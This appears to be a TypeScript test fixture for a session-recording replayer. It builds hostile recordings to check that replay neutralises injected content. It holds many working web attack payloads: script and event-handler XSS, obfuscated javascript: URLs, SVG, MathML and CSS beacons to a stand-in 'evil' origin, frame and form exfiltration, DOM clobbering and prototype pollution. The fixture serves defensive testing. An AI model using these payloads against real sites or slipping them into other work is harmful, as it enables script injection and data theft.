/** What somebody may put into a recording they send: each attack a document of its own. */
import type { RecordEvent } from '../../lib/format/events'
import type { PackedNode } from '../../lib/format/tree'
import { TEST_EPOCH, type TestRecording } from './inMemorySource'
import { html, snapshot } from './recordings'

export interface Attack {
  name: string
  head?: PackedNode[]
  body?: PackedNode[]
  /** After the snapshot, in the 4 seconds that the document is on show. */
  events?: RecordEvent[]
}

/** How long each attack is on show. */
export const ATTACK_MS = 5000

const svg = (...children: PackedNode[]): PackedNode => ['svg', 0, 0, ...children]
const mutation = (more: object): RecordEvent => ({ kind: 'mutation', time: 100, ...more }) as never

/** `evil`: origin of a server that wants to be called. */
export function attacks(evil: string): Attack[] {
  const js = `top.hacked=1;parent.hacked=1;new Image().src='${evil}/js'`
  const url = `javascript:${js}`
  const page = `<script>${js}</script><img src="${evil}/srcdoc">`
  const data = `data:text/html;base64,${Buffer.from(page).toString('base64')}`
  return [
    {
      name: 'script',
      body: [
        ['script', 0, 0, js],
        ['script', ['src', `${evil}/a.js`], 0],
        ['script', ['type', 'module'], 0, js],
        ['SCRIPT', 0, 0, js],
      ],
    },
    {
      name: 'script that comes later',
      body: [['p', 0, 0]],
      events: [
        mutation({ inserts: [[5, 0, 20, ['script', 0, 0, js]]] }),
        mutation({ inserts: [[5, 0, 30, ['iframe', ['srcdoc', page], 0]]] }),
      ],
    },
    {
      name: 'handlers',
      body: [
        ['img', ['src', 'x:', 'onerror', js], 0],
        ['body', ['onload', js], 0],
        ['details', ['open', '', 'ontoggle', js], 0],
        ['input', ['autofocus', '', 'onfocus', js, 'ONCLICK', js], 0],
        ['video', ['onloadstart', js], 0, ['source', ['onerror', js], 0]],
        [
          'div',
          ['onclick', js, 'onmouseover', js, 'style', 'animation:a 1s', 'onanimationstart', js],
          0,
        ],
      ],
      events: [
        mutation({
          attributes: [
            [5, 'onclick', js],
            [5, 'onpointerover', js],
          ],
        }),
      ],
    },
    {
      name: 'javascript: addresses',
      body: [
        ['a', ['href', url], 0, 'a'],
        ['a', ['href', `\u0001 java\nscript:${js}`], 0, 'b'],
        ['a', ['href', url, 'target', '_top'], 0, 'c'],
        ['iframe', ['src', url], 0],
        ['embed', ['src', url], 0],
        ['object', ['data', url], 0],
        ['map', 0, 0, ['area', ['href', url, 'shape', 'default'], 0]],
        ['form', ['action', url], 0, ['button', ['formaction', url], 0, 'go']],
        ['input', ['type', 'image', 'src', url, 'formaction', url], 0],
      ],
      events: [mutation({ attributes: [[6, 'href', url]] })],
    },
    {
      name: 'SVG',
      body: [
        svg(
          ['script', 0, 0, js],
          ['script', ['href', `${evil}/svg.js`], 0],
          ['a', ['xlink:href', url], 0, ['text', 0, 0, 'x']],
          [
            'a',
            0,
            0,
            ['animate', ['attributeName', 'href', 'values', url], 0],
            ['text', 0, 0, 'y'],
          ],
          ['set', ['attributeName', 'onclick', 'to', js], 0],
          ['animate', ['onbegin', js, 'attributeName', 'x', 'dur', '1s'], 0],
          ['image', ['href', `${evil}/svg.png`], 0],
          ['use', ['href', `${evil}/svg.svg#a`], 0],
          ['use', ['href', `data:image/svg+xml,<svg id="a" onload="${js}"/>#a`], 0],
          ['feImage', ['href', `${evil}/fe.png`], 0],
          ['rect', ['fill', `url(${evil}/fill.svg#a)`, 'filter', `url("${evil}/f.svg#a")`], 0],
          ['foreignObject', 0, 0, ['iframe', ['src', evil], 0], ['script', 0, 0, js]],
          ['handler', ['ev:event', 'load'], 0, js],
        ),
      ],
    },
    {
      name: 'MathML',
      body: [
        [
          'math',
          ['href', url],
          0,
          ['maction', ['actiontype', 'statusline#x', 'xlink:href', url], 0, 'm'],
        ],
        [
          'math',
          0,
          0,
          [
            'annotation-xml',
            ['encoding', 'text/html'],
            0,
            ['img', ['src', `${evil}/m`, 'onerror', js], { ns: 'html' }],
          ],
        ],
      ],
    },
    {
      name: 'CSS',
      head: [
        [
          'style',
          0,
          0,
          `@import "${evil}/1.css";@import url(${evil}/2.css) screen;@im\\port '${evil}/3.css';`,
          `@font-face{font-family:f;src:url(${evil}/f.woff)}body{font-family:f;background:u`,
          `rl(${evil}/split.png);cursor:url(${evil}/c.cur),auto;list-style:url(${evil}/l)}`,
          `p{background:image-set("${evil}/is.png" 1x);content:url(${evil}/ct);mask:url(${evil}/mk)}`,
          `p{background:\\75rl(${evil}/esc.png);--a:url(${evil}/var);border-image:var(--a)}`,
          `@namespace url(${evil}/ns);@property --x{syntax:"<url>";inherits:false;initial-value:url(${evil}/prop)}`,
          `</style><script>${js}</script>`,
        ],
        ['link', ['rel', 'stylesheet', 'href', `${evil}/link.css`], 0],
        [
          'link',
          ['rel', 'stylesheet'],
          { cssText: `@import "${evil}/t.css";p{background:url(${evil}/t)}` },
        ],
      ],
      body: [
        [
          'p',
          [
            'style',
            `background:url(${evil}/attr);behavior:url(${evil}/htc);-moz-binding:url(${evil}/xbl)`,
          ],
          0,
          'p',
        ],
        ['table', ['background', `${evil}/bg`], 0],
      ],
      events: [
        {
          kind: 'sheet',
          time: 50,
          sheet: 1,
          text: `p{background:url(${evil}/sheet)}@import "${evil}/s.css";`,
        },
        { kind: 'adopted', time: 60, root: 1, sheets: [1] },
        {
          kind: 'rules',
          time: 70,
          owner: { sheet: 1 },
          changes: [
            ['insert', [0], `b{background:url(${evil}/rule)}`],
            ['set', [0], 'background', `url(${evil}/set)`, ''],
            ['replace', `i{background:url(${evil}/replace)}`],
          ],
        },
      ],
    },
    {
      name: 'links that connect',
      head: [
        ...[
          'preconnect',
          'dns-prefetch',
          'preload',
          'prefetch',
          'modulepreload',
          'prerender',
          'manifest',
          'icon',
          'next',
          'search',
          'pingback',
          'import',
        ].map(
          (rel): PackedNode => ['link', ['rel', rel, 'href', `${evil}/${rel}`, 'as', 'script'], 0],
        ),
        ['LINK', ['REL', 'preconnect', 'HREF', evil], 0],
        [
          'script',
          ['type', 'speculationrules'],
          0,
          `{"prefetch":[{"source":"list","urls":["${evil}/spec"]}]}`,
        ],
        ['meta', ['http-equiv', 'Link', 'content', `<${evil}>; rel=preconnect`], 0],
      ],
    },
    {
      name: 'meta and base',
      head: [
        ['meta', ['http-equiv', 'refresh', 'content', `0;url=${evil}/refresh`], 0],
        ['META', ['HTTP-EQUIV', 'Refresh', 'CONTENT', `0; URL='${url}'`], 0],
        ['meta', ['http-equiv', 'Content-Security-Policy', 'content', 'default-src *'], 0],
        ['meta', ['http-equiv', 'set-cookie', 'content', 'a=b'], 0],
        ['base', ['href', `${evil}/`, 'target', '_top'], 0],
      ],
      body: [
        ['img', ['src', 'relative.png'], 0],
        ['a', ['href', 'relative'], 0, 'a'],
      ],
    },
    {
      name: 'frames',
      body: [
        ['iframe', ['srcdoc', page], 0],
        ['iframe', ['src', `${evil}/frame`, 'sandbox', 'allow-scripts allow-same-origin'], 0],
        ['iframe', ['src', data], 0],
        ['IFRAME', ['SRC', `${evil}/upper`], 0],
        ['frameset', 0, 0, ['frame', ['src', `${evil}/frameset`], 0]],
        [
          'object',
          ['data', `${evil}/object`, 'type', 'text/html'],
          0,
          ['param', ['name', 'src', 'value', evil], 0],
        ],
        ['embed', ['src', `${evil}/embed`, 'type', 'text/html'], 0],
        ['applet', ['code', evil, 'archive', `${evil}/applet`], 0],
        ['portal', ['src', `${evil}/portal`], 0],
        ['fencedframe', ['src', `${evil}/fenced`], 0],
      ],
      events: [
        mutation({
          attributes: [
            [6, 'src', `${evil}/later`],
            [6, 'srcdoc', page],
            [6, 'sandbox', null],
          ],
        }),
      ],
    },
    {
      name: 'forms and pings',
      body: [
        [
          'form',
          ['action', `${evil}/form`, 'method', 'post', 'id', 'f'],
          0,
          ['input', ['name', 'a', 'value', 'b'], 0],
          ['button', 0, 0, 'send'],
        ],
        ['button', ['form', 'f', 'formaction', `${evil}/other`, 'formtarget', '_top'], 0, 'other'],
        ['a', ['href', `${evil}/away`, 'target', '_top'], 0, 'away'],
        ['a', ['href', '#x', 'ping', `${evil}/ping`], 0, 'ping'],
        ['a', ['href', `${evil}/download`, 'download', ''], 0, 'download'],
        ['img', ['src', `${evil}/ismap`, 'ismap', '', 'attributionsrc', `${evil}/attribution`], 0],
      ],
    },
    {
      name: 'pictures and media',
      body: [
        [
          'img',
          ['src', `${evil}/i`, 'srcset', `${evil}/i2 2x`, 'lowsrc', `${evil}/low`],
          { currentSrc: `${evil}/cur` },
        ],
        ['picture', 0, 0, ['source', ['srcset', `${evil}/source`], 0], ['img', 0, 0]],
        [
          'video',
          ['src', `${evil}/v`, 'poster', `${evil}/poster`, 'autoplay', ''],
          { media: { paused: false, time: 1 } },
          ['track', ['src', `${evil}/track`, 'default', ''], 0],
        ],
        ['audio', ['src', `${evil}/audio`, 'autoplay', ''], { media: { paused: false, time: 1 } }],
        ['input', ['type', 'image', 'src', `${evil}/input`], 0],
        ['canvas', 0, { image: `${evil}/canvas` }],
        [
          'img',
          [
            'src',
            `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"><image href="${evil}/in-svg"/></svg>`,
          ],
          0,
        ],
        ['img', ['src', 'blob:null/1'], { image: url }],
        ['body', ['background', `${evil}/body`], 0],
      ],
    },
    {
      name: 'names that hide methods',
      body: [
        ...[
          'createElement',
          'createTextNode',
          'defaultView',
          'getAnimations',
          'adoptedStyleSheets',
          'images',
          'fonts',
          'URL',
          'write',
          'open',
          'close',
          'doctype',
          'body',
          'head',
          'getElementsByTagName',
          'addEventListener',
          'documentElement',
          'styleSheets',
        ].map((name): PackedNode => ['img', ['name', name, 'id', name], 0]),
        [
          'form',
          ['name', 'forms'],
          0,
          ...[
            'insertBefore',
            'appendChild',
            'remove',
            'attributes',
            'setAttribute',
            'parentNode',
            'nodeType',
            'ownerDocument',
            'isConnected',
            'childNodes',
            'firstChild',
            'nextSibling',
            'submit',
            'localName',
            'getRootNode',
            'matches',
          ].map((name): PackedNode => ['input', ['name', name], 0]),
        ],
        ['iframe', ['name', 'top'], 0],
        ['a', ['id', 'recount'], 0],
      ],
      events: [
        mutation({
          inserts: [[5, 6, 60, ['p', ['data-x', '1'], 0, 'added']]],
          attributes: [
            [24, 'class', 'x'],
            [24, '[odd]', 'y'],
          ],
        }),
        mutation({ removes: [7], texts: [[61, 'changed']] }),
        { kind: 'canvas', time: 110, id: 24, image: 'nothing' },
        { kind: 'scroll', time: 120, id: 24, left: 0, top: 10 },
        { kind: 'focus', time: 130, id: 25 },
      ],
    },
    {
      name: 'prototype pollution',
      body: [
        [
          'p',
          ['__proto__', 'polluted', 'constructor', 'x', 'toString', 'y'],
          JSON.parse('{"__proto__":{"polluted":1},"states":["__proto__"]}'),
          'p',
        ],
        ['__proto__', 0, 0],
        ['constructor', 0, 0],
      ],
      events: [
        JSON.parse(
          '{"kind":"state","time":100,"id":6,"state":{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}}',
        ),
        JSON.parse(
          '{"kind":"animation","time":100,"id":6,"animation":1,"action":"start","keyframes":[{"__proto__":{"polluted":1},"opacity":0}],"timing":{"__proto__":{"polluted":1},"duration":1}}',
        ),
        JSON.parse('{"kind":"mutation","time":100,"attributes":[[6,"__proto__","polluted"]]}'),
        JSON.parse(
          '{"kind":"console","time":100,"level":"log","args":[{"__proto__":{"polluted":1}}]}',
        ),
      ],
    },
    {
      name: 'ids and times that make no sense',
      body: [['div', 0, 0, ['p', 0, 0, 'inner']]],
      events: [
        mutation({ inserts: [[7, 0, 6]] }), // into its own child
        mutation({ inserts: [[6, 0, 6]] }),
        mutation({
          inserts: [
            [5, 0, 6, 'again'],
            [5, 0, 1, 'root'],
            [6, 0, 2 ** 30 - 1, 'far'],
          ],
        }),
        mutation({ removes: [1, 2, 999, 5, 5] }),
        { kind: 'frame', time: 100, id: 6, stream: 's0' },
        { kind: 'scroll', time: 100, id: 6, left: -1e308, top: 1e308 },
        { kind: 'viewport', time: 100, viewport: { width: -5, height: 1e9 } },
        { kind: 'move', time: 100, pointer: 'mouse', points: [[-1e12, 1e308, -1e308, 6]] },
        { kind: 'selection', time: 100, ranges: [[8, 1e9, 8, -4]] },
        {
          kind: 'highlight',
          time: 100,
          name: '__proto__',
          priority: -1e308,
          ranges: [
            [8, 1e9, 8, -4],
            [1, 0, 2 ** 30 - 1, 1e308],
          ],
        },
        { kind: 'mutation', time: -1e300, texts: [[8, 'before all time']] },
        { kind: 'mutation', time: 1e300, texts: [[8, 'after all time']] },
      ],
    },
  ]
}

/** All attacks one after the other, each a page of the same session. */
export function hostileRecording(evil: string): TestRecording {
  return {
    streams: attacks(evil).map(({ head = [], body = [], events = [] }, index) => ({
      stream: { startedAt: TEST_EPOCH + index * ATTACK_MS, url: `${evil}/${index}` },
      events: [
        snapshot(html(head, body), { url: `${evil}/${index}`, baseUrl: `${evil}/` }),
        ...events,
        { kind: 'visibility', time: ATTACK_MS - 100, visible: true },
      ] satisfies RecordEvent[],
    })),
  }
}

/** The same as rrweb events: what a file of another tool would be. */
export function hostileRrweb(evil: string): object[] {
  return attacks(evil).flatMap(({ head = [], body = [] }, index) => {
    const at = TEST_EPOCH + index * ATTACK_MS
    let id = 0
    const children = html(head, body).map((node) => toRrweb(node, () => ++id))
    return [
      { type: 4, timestamp: at, data: { href: `${evil}/${index}`, width: 800, height: 600 } },
      { type: 2, timestamp: at, data: { node: { type: 0, id: ++id, childNodes: children } } },
      { type: 3, timestamp: at + ATTACK_MS - 100, data: { source: 1, positions: [] } },
    ]
  })
}

function toRrweb(node: PackedNode, nextId: () => number): object {
  if (typeof node === 'string') return { type: 3, id: nextId(), textContent: node }
  if (!Array.isArray(node)) {
    if ('doctype' in node)
      return { type: 1, id: nextId(), name: 'html', publicId: '', systemId: '' }
    return { type: 5, id: nextId(), textContent: '' }
  }
  const [tagName, flat, , ...children] = node
  const pairs = flat === 0 ? [] : flat
  const attributes: [string, string][] = []
  for (let at = 0; at < pairs.length; at += 2)
    attributes.push([pairs[at] ?? '', pairs[at + 1] ?? ''])
  return {
    type: 2,
    id: nextId(),
    tagName,
    attributes: Object.fromEntries(attributes),
    ...(['svg', 'script', 'image', 'use', 'rect', 'set', 'animate', 'feImage'].includes(
      tagName,
    ) && { isSVG: tagName !== 'script' }),
    childNodes: children.map((child) => toRrweb(child, nextId)),
  }
}
